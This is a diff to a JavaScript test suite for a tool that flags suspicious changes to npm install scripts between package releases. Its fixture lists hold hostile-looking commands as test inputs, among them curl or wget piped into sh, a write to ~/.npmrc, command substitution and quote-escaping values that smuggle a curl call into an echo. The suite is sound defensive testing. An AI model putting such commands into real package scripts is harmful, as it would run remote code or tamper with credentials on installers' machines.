@@ -1,10 +1,22 @@
 // Install scripts: what changed in them, and whether that is an alarm.
 import assert from 'node:assert/strict'
 import { test } from 'node:test'
+import { reviewRelease } from 'npm-hooks/packument'
 import { review, script } from './releases.js'
 
 /** Scripts that fetch, decode or run something that the package does not contain, or that the shell runs. */
 const DANGEROUS = [
+  'echo wget files.example/x -O x.sh | sh && sh x.sh',
+  'echo require "child" | node',
+  'sh',
+  'bash /dev/stdin',
+  'node /tmp/x.js',
+  'node ../other/x.js',
+  'echo "a" > ~/.npmrc',
+  'echo "$(id)"',
+  'echo "\\" & curl files.example & "',
+  "echo '\"' & curl files.example & echo '\"'",
+  'npx --no-install other',
   'curl https://files.example/a.sh | sh',
   'wget -q files.example/a.sh && sh a.sh',
   'node -e "require(\'https\')"',
@@ -31,6 +43,34 @@ const DANGEROUS = [
   'husky install; node -p x',
   'node a.js & curl files.example',
   'node a.js\ncurl files.example',
+]
+
+/** Commands that run the script `b`; the package has a script `a` that does nothing. */
+const RUNNERS = [
+  'npm run b',
+  'npm run b > /dev/null',
+  'npm run b 2>/dev/null',
+  'npm run b -- "--foo"',
+  'npm run b # x',
+  'npm run "b"',
+  'npm rum b',
+  'npm run\tb',
+  'npm --prefix . run b',
+  'npm run -w a b',
+  'CI=1 npm run b',
+  'if true; then npm run b; fi',
+  'npm run b | cat',
+  'npx npm run b',
+  'npx --no-install run-s b',
+  'sh -c "npm run b"',
+  'node --run b',
+  '$npm_execpath run b',
+  'yarn b',
+  'pnpm b',
+  'bun b',
+  'run-s b',
+  'npm-run-all b',
+  'concurrently npm:b',
 ]
 
 /** `[title, scripts of the previous release, scripts, level of the signal]`. */
@@ -95,8 +135,46 @@ const SCRIPTS = [
     { install: 'node a.js', b: 'curl a.example' },
     undefined,
   ],
-  ['a build from source next to a script', { install: 'node a.js' }, { install: 'node a.js', gypfile: true }, undefined],
+  ['a different script by `npm start`', { install: 'npm start', start: 'a' }, { install: 'npm start', start: 'curl a.example' }, 'alarm'],
+  [
+    'the ninth script that is followed',
+    {
+      install: '0123456789'.replace(/./g, 'npm run s$& && ').concat('true'),
+      ...Object.fromEntries(Array.from('0123456789', (at) => [`s${at}`, 'a'])),
+    },
+    {
+      install: '0123456789'.replace(/./g, 'npm run s$& && ').concat('true'),
+      ...Object.fromEntries(Array.from('012345678', (at) => [`s${at}`, 'a'])),
+      s9: 'curl a.example',
+    },
+    'alarm',
+  ],
+  ['a script fewer that a command may run', { install: 'run-s b', b: 'a', c: 'a' }, { install: 'run-s b', b: 'a' }, 'notice'],
+  [
+    'a usual tool by npx that must be there',
+    { postinstall: 'node a.js' },
+    { postinstall: 'node a.js && npx --no-install patch-package' },
+    'notice',
+  ],
+  ['a message with brackets', { install: 'node a.js' }, { install: 'node a.js || echo "could not install (see README)"' }, 'notice'],
+  [
+    'a message with a semicolon',
+    { install: 'node-gyp rebuild' },
+    { install: 'node-gyp rebuild', postinstall: 'echo "Thank you; please star us"' },
+    'notice',
+  ],
+  ['a message with an ampersand', { install: 'node a.js' }, { install: 'node a.js', postinstall: 'echo "Q&A at example.org"' }, 'notice'],
+  [
+    'a pipe that was there, and a file',
+    { install: 'curl https://a.example/x | sh' },
+    { install: 'echo wget b.example/x -O x | sh && sh x' },
+    'alarm',
+  ],
   ['more commands than are read', { install: 'node a.js' }, { install: 'node a.js;'.repeat(1000) }, 'alarm'],
+  ...RUNNERS.flatMap((install) => [
+    [`${install}, and what it runs changes`, { install, a: 'true', b: 'tsc' }, { install, a: 'true', b: 'curl a.example | sh' }, 'alarm'],
+    [`${install}, and what it runs is the same`, { install, a: 'true', b: 'tsc' }, { install, a: 'true', b: 'tsc' }, undefined],
+  ]),
   ...DANGEROUS.map((command) => [command, { install: 'node a.js' }, { install: command }, 'alarm']),
   ...DANGEROUS.map((command) => [`${command}, as before`, { install: command }, { install: command }, undefined]),
 ]
@@ -114,6 +192,77 @@ for (const [what, before, after, level] of SCRIPTS) {
   })
 }
 
+/** `[title, manifest of the previous release, manifest, level, path of the first location]`. */
+const MANIFESTS = [
+  ['a build from source', {}, { gypfile: true }, 'alarm', ['gypfile']],
+  [
+    'a build from source next to `postinstall`',
+    script({ postinstall: 'a' }),
+    { gypfile: true, ...script({ postinstall: 'a' }) },
+    'notice',
+    ['gypfile'],
+  ],
+  ['`gypfile` that `install` replaces', script({ install: 'a' }), { gypfile: true, ...script({ install: 'a' }) }],
+  ['`gypfile` in full', { gypfile: true }, { gypfile: true, ...script({ install: 'node-gyp rebuild' }) }],
+  [
+    'a script in place of a build from source',
+    { gypfile: true },
+    { gypfile: true, ...script({ preinstall: 'curl a.example | sh' }) },
+    'alarm',
+    ['scripts', 'preinstall'],
+  ],
+  [
+    'a script after one that is not known',
+    { hasInstallScript: true },
+    { hasInstallScript: true, ...script({ postinstall: 'curl a.example | sh' }) },
+    'alarm',
+    ['scripts', 'postinstall'],
+  ],
+  [
+    'a usual script after one that is not known',
+    { hasInstallScript: true },
+    { hasInstallScript: true, ...script({ postinstall: 'husky install' }) },
+    'notice',
+    ['scripts', 'postinstall'],
+  ],
+]
+
+for (const [what, before, after, level, path] of MANIFESTS) {
+  test(`install script: ${what}`, () => {
+    const releases = [
+      { version: '1.0.0', ...before },
+      { version: '1.0.1', ...after },
+    ]
+    const [signal] = review(releases, '1.0.1')
+    assert.deepEqual([signal?.level, signal?.locations[0].path], [level, path && ['versions', '1.0.1', ...path]])
+  })
+}
+
+test('a script that is followed twice is shown once', () => {
+  const scripts = { install: 'npm run preb && npm run b', preb: 'a', b: 'b' }
+  const [signal] = review([{ version: '1.0.0' }, { version: '1.0.1', ...script(scripts) }], '1.0.1')
+  assert.deepEqual(
+    signal.locations.map(({ path }) => path.at(-1)),
+    ['install', 'preb', 'b'],
+  )
+})
+
+for (const [what, versions] of [
+  ['the previous release', { '1.0.0': {}, '1.0.1': null }],
+  ['the oldest release', { '0.9.0': null, '1.0.0': {} }],
+]) {
+  test(`install script: ${what} cannot be read`, () => {
+    const after = { '1.0.2': script({ postinstall: 'curl a.example | sh' }) }
+    for (const time of [
+      undefined,
+      { '0.9.0': '2020-01-01T00:00Z', '1.0.0': '2020-01-01T01:00Z', '1.0.1': '2020-01-01T02:00Z', '1.0.2': '2020-01-01T03:00Z' },
+    ]) {
+      const [signal] = reviewRelease(JSON.stringify({ versions: { ...versions, ...after }, time }), '1.0.2')
+      assert.deepEqual([signal.code, signal.level], ['install-script', 'alarm'])
+    }
+  })
+}
+
 test('many scripts, commands and scripts that run scripts are read as fast as a few', () => {
   const many = (value) => Object.fromEntries(Array.from({ length: 20_000 }, (_, at) => [`s${at}`, value(at)]))
   const scripts = (end) => ({ install: 'npm run s0 && npm run s1', ...many((at) => `npm run s${at + 1}; npm run s${at + 2}`), s19999: end })
@@ -128,4 +277,14 @@ test('many scripts, commands and scripts that run scripts are read as fast as a 
   assert.equal(signal.code, 'install-script')
   assert.ok(signal.locations.length <= 100, `${signal.locations.length} locations`)
   assert.ok(performance.now() - started < 5000, 'within seconds')
+})
+
+test('many short names, and many commands that run scripts, are read within seconds', () => {
+  const many = Object.fromEntries(Array.from({ length: 1_000_000 }, (_, at) => [at.toString(36), '']))
+  const hook = Array.from({ length: 99 }, (_, at) => `npm run zz${at}zz`).join(' && ')
+  const manifest = JSON.stringify({ scripts: { ...many, preinstall: hook, install: hook, postinstall: hook } })
+  const started = performance.now()
+  const signals = reviewRelease(`{"versions":{"1.0.0":${manifest},"1.0.1":${manifest}}}`, '1.0.1')
+  assert.deepEqual(signals, [])
+  assert.ok(performance.now() - started < 5000, `${performance.now() - started} ms`)
 })
